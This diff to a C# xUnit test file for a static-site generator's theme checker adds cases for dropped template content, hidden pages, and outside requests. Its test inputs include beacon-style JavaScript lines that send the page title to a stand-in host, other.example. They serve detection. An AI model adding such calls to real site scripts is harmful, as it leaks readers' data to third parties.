@@ -1,5 +1,6 @@
 using IskraSite.Commands;
 using IskraSite.Diagnostics;
+using IskraSite.Rendering.Theming;
 using Xunit;
 
 namespace IskraSite.Tests.Publishing.Finished;
@@ -7,8 +8,6 @@ namespace IskraSite.Tests.Publishing.Finished;
 /// <summary>A theme that drops what a page is to show, or adds what it is not to have, fails the build and is told which of its files does so.</summary>
 public sealed class ThemeFaultsTests
 {
-    private const string Outputs = "outputs: [pages, facing, source, emendations, supporters, indexes, feeds, sitemap, offline, hosting]";
-
     [Theory]
     [InlineData("text.html", "{{ body }}", "", "output-008")]
     [InlineData("text.html", "{{ annex }}", "", "output-008")]
@@ -22,7 +21,6 @@ public sealed class ThemeFaultsTests
     [InlineData("source.html", "<td>{{ r.edition }}</td>", "<td></td>", "output-008")]
     [InlineData("printed-page.html", "{{ p.html }}", "", "output-008")]
     [InlineData("issue.html", "<h3><a href=\"{{ t.href }}\">{{ t.title }}</a></h3>", "", "output-008")]
-    [InlineData("home.html", "<h3><a href=\"{{ i.href }}\">{{ i.title }}</a></h3>", "", "output-008")]
     [InlineData("emendations.html", "{{ r.note }}", "", "output-008")]
     [InlineData("supporters.html", "{{ e.html }}", "", "output-008")]
     [InlineData("country.html", "{{ e.html }}", "", "output-008")]
@@ -30,6 +28,22 @@ public sealed class ThemeFaultsTests
     [InlineData("one-file-text.html", "{{ w.html }}", "", "output-008")]
     [InlineData("book-text.html", "{{ body }}", "", "output-008")]
     [InlineData("book-notes.html", "{{ p.html }}", "", "output-008")]
+    [InlineData("text.html", "{{ summary }}", "", "output-008")]
+    [InlineData("text.html", "<bdi>{{ a.text }}</bdi>", "", "output-008")]
+    [InlineData("text.html", "{{ e.kind_name }}", "", "output-008")]
+    [InlineData("text.html", "<p class=\"citation\" lang=\"{{ c.lang }}\" dir=\"{{ c.dir }}\">{{ c.html }}</p>", "", "output-008")]
+    [InlineData("text.html", "<span class=\"date\">{{ date_html }}</span>", "<span hidden>{{ date_html }}</span>", "output-008")]
+    [InlineData("text.html", "<p class=\"abstract\">", "<p class=\"abstract\" title=\"{{ summary }}\">…</p><template>", "output-008")]
+    [InlineData("country.html", "<h1>{{ name }}</h1>", "", "output-008")]
+    [InlineData("emendations.html", "for j in joins", "for j in joins limit:1", "output-008")]
+    [InlineData("issue.html", "<h1>{{ title }}</h1>", "<h1><!-- {{ title }} --></h1>", "output-008")]
+    [InlineData("source.html", "{{ r.line }}</a></th>", "</a></th>", "output-008")]
+    [InlineData("printed-page.html", "{{ number }}", "", "output-008")]
+    [InlineData("colophon.html", "{{ edition.version }}", "", "output-008")]
+    [InlineData("layout.html", "{{ content }}", "", "output-008")]
+    [InlineData("one-file-text.html", "{{ a.date_html }}", "", "output-008")]
+    [InlineData("book-pair.html", "{{ c.html }}", "", "output-008")]
+    [InlineData("book-title-words.html", "{{ summary }}", "<textarea>{{ summary }}</textarea>", "output-008")]
     [InlineData("one-file.html", "<meta http-equiv=\"Content-Security-Policy\" content=\"{{ csp }}\">", "", "output-009")]
     [InlineData("layout.html", "<meta http-equiv=\"Content-Security-Policy\" content=\"{{ csp }}\">", "", "output-009")]
     [InlineData("layout.html", "content=\"{{ csp }}\"", "content=\"default-src *\"", "output-009")]
@@ -43,7 +57,7 @@ public sealed class ThemeFaultsTests
     [InlineData("not-found.html", "<meta http-equiv=\"Content-Security-Policy\" content=\"{{ csp }}\">", "", "output-009")]
     public void A_template_that_drops_or_adds_something_is_named(string template, string whole, string broken, string code)
     {
-        using var bench = Rich();
+        using var bench = RichEdition.Make();
         bench.ReplaceInTheme("templates/" + template, whole, broken);
         var result = bench.Check();
         Assert.Contains(result.Findings, finding => finding.Code.Id == code && finding.Place.Path == "templates/" + template && Path.HasExtension(finding.Message.Split(' ')[0]));
@@ -62,7 +76,7 @@ public sealed class ThemeFaultsTests
     [InlineData("worker/retired.js")]
     public void A_file_that_an_output_needs_is_asked_for_by_name(string file)
     {
-        using var bench = Rich();
+        using var bench = RichEdition.Make();
         bench.OwnTheme();
         File.Delete(Path.Join(bench.Theme, file));
         var result = bench.Check();
@@ -86,7 +100,7 @@ public sealed class ThemeFaultsTests
     [Theory]
     [InlineData("images/icon-512.png", "not a png")]
     [InlineData("images/icon.svg", "<svg")]
-    [InlineData("fonts/vazirmatn.woff2", "")]
+    [InlineData("fonts/markazi-text.woff2", "")]
     public void A_file_of_the_theme_that_is_not_what_its_name_says_is_named(string file, string content)
     {
         using var bench = EditionBench.Good();
@@ -95,19 +109,50 @@ public sealed class ThemeFaultsTests
         Assert.Contains(bench.Check().Findings, finding => finding.Code == Codes.Output.NotWhole && finding.Place.Path == file);
     }
 
-    [Fact]
-    public void Styles_that_ask_outside_are_found()
+    [Theory]
+    [InlineData("styles/90-print.css", "p { background: url(\"https://other.example/a.png\"); }", "styles/")]
+    [InlineData("styles/90-print.css", "p { background: image-set(\"https://other.example/a.png\" 1x); }", "styles/")]
+    [InlineData("styles/90-print.css", "p { background: url(//other.example/a.png); }", "styles/")]
+    [InlineData("scripts/reader.js", "new Image().src = \"https://other.example/\" + document.title;", "scripts/reader.js")]
+    [InlineData("scripts/reader.js", "navigator.sendBeacon(`//other.example/`);", "scripts/reader.js")]
+    [InlineData("one-file/one-file.js", "new Image().src = 'https://other.example/';", "templates/one-file.html")]
+    public void Styles_and_scripts_that_ask_outside_are_found(string file, string added, string place)
+    {
+        using var bench = RichEdition.Make();
+        bench.OwnTheme();
+        File.AppendAllText(Path.Join(bench.Theme, file), added + "\n");
+        Assert.Contains(bench.Check().Findings, finding => finding.Code == Codes.Output.Outside && finding.Place.Path == place);
+    }
+
+    [Theory]
+    [InlineData("styles/30-layout.css", "")]
+    [InlineData("styles/30-layout.css", "/* nothing */")]
+    [InlineData("scripts/reader.js", "// nothing\n")]
+    public void A_style_or_script_of_which_nothing_is_left_is_named(string file, string left)
     {
         using var bench = EditionBench.Good();
         bench.OwnTheme();
-        File.AppendAllText(Path.Join(bench.Theme, "styles", "90-print.css"), "p { background: url(\"https://other.example/a.png\"); }\n");
-        Assert.Contains(bench.Check().Findings, finding => finding.Code == Codes.Output.Outside && finding.Place.Path == "styles/");
+        File.WriteAllText(Path.Join(bench.Theme, file), left);
+        Assert.Contains(bench.Check().Findings, finding => finding.Code == Codes.Theme.Missing && finding.Place.Path == file);
+    }
+
+    [Theory]
+    [InlineData("main{display:none}", true)]
+    [InlineData("p { } @media print { html > body { visibility: hidden !important } }", true)]
+    [InlineData("body, p { color: red; clip-path: inset(100%) }", true)]
+    [InlineData("main p { display: none } body { overflow: clip; display: block }", false)]
+    [InlineData("/* main { display: none } */ body:has(main) { opacity: 0.5 } html { opacity: 0.9 }", false)]
+    public void A_style_that_hides_the_page_is_found(string style, bool isFound)
+    {
+        var bag = new DiagnosticBag();
+        StyleCheck.Check(new SourceText("styles/a.css", style), bag);
+        Assert.Equal(isFound, bag.HasErrors);
     }
 
     [Fact]
     public void Two_issues_with_entries_of_one_id_share_no_place()
     {
-        using var bench = Rich();
+        using var bench = RichEdition.Make();
         foreach (var file in Directory.EnumerateFiles(bench.PathOf("issues/2001-04"), "*", SearchOption.AllDirectories).ToList())
         {
             var path = "issues/2001-05/" + Path.GetRelativePath(bench.PathOf("issues/2001-04"), file);
@@ -118,25 +163,5 @@ public sealed class ThemeFaultsTests
         Assert.Empty(result.Findings.Described());
         Assert.Contains("id=\"2001-05-ca-1\"", bench.Text("fa/supporters/canada/index.html"), StringComparison.Ordinal);
         Assert.Contains("href=\"../../fa/supporters/canada/index.html#2001-05-ca-1\"", bench.Text("fa/supporters/index.html"), StringComparison.Ordinal);
-    }
-
-    // The tiny edition with a note on an emendation, footnotes and printed pages, in every form that templates make.
-    private static EditionBench Rich()
-    {
-        var bench = EditionBench.Good();
-        bench.Replace("edition.yml", Outputs, Outputs.Replace("[pages", "[pages, printed-pages, one-file, epub, search", StringComparison.Ordinal));
-        bench.Replace("issues/2001-04/issue.yml", "texts: [", "pages: 2\ntexts: [");
-        bench.Replace("issues/2001-04/announcement.fa.md", "cause=unknown}", "cause=unknown note=\"حرفی دو بار چاپ شده است.\" note-en=\"A letter is printed twice.\"}");
-        foreach (var language in (string[])["fa", "en"])
-        {
-            foreach (var file in (string[])[$"issues/2001-04/announcement.{language}.md", $"pages/principles.{language}.md"])
-            {
-                var text = bench.TextOf(file).TrimEnd('\n');
-                var at = text.LastIndexOf('.');
-                bench.Put(file, text[..at] + ".[^1]" + text[(at + 1)..] + "\n\n[^1]: ۱۳۸۰\n");
-            }
-        }
-
-        return bench;
     }
 }
